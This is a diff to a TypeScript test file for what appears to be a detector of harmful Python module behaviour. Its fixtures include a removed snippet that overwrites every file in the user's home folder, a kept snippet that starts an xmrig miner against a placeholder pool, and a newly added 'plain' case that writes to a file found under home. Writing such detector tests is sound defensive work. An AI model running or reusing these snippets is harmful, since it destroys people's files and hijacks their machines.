@@ -205,11 +205,6 @@ const DEEDS: readonly [situation: string, code: string, finding: string][] = [
     'download-and-execute high import',
   ],
   [
-    'every file that a person keeps is written over, once somebody calls it',
-    'import os\ndef go():\n    for r, d, n in os.walk(os.path.expanduser("~")):\n        for x in n:\n            open(os.path.join(r, x), "wb").write(b"0")',
-    'called-harm high call',
-  ],
-  [
     'a program that mines for somebody certain, once somebody calls it',
     'import subprocess\ndef go():\n    subprocess.Popen("xmrig -o stratum+tcp://pool.keeper.invalid:3333", shell=True)',
     'called-harm high call',
@@ -244,6 +239,8 @@ t.test('deeds of modules that are imported', async (t) => {
   const plain: Readonly<Record<string, string>> = {
     'files in a folder of its own': 'import os\nfor r, d, n in os.walk("build"):\n    open(os.path.join(r, "x"), "w")',
     'files that a person keeps are listed': 'import os\nfor r, d, n in os.walk(os.path.expanduser("~")):\n    print(r)',
+    'a file that some function writes, whose path may be one of those':
+      'import os\ndef find(folder="~"):\n    return [os.path.join(r, n) for r, d, f in os.walk(os.path.expanduser(folder)) for n in f]\ndef make():\n    open(find()[0], "w").write("x")',
     'a hook of git that starts the package itself':
       'import pathlib\ndef go(folder):\n    (pathlib.Path(folder) / ".git/hooks/pre-commit").write_text("exec a check\\n")',
     'a line of its own for new shells':
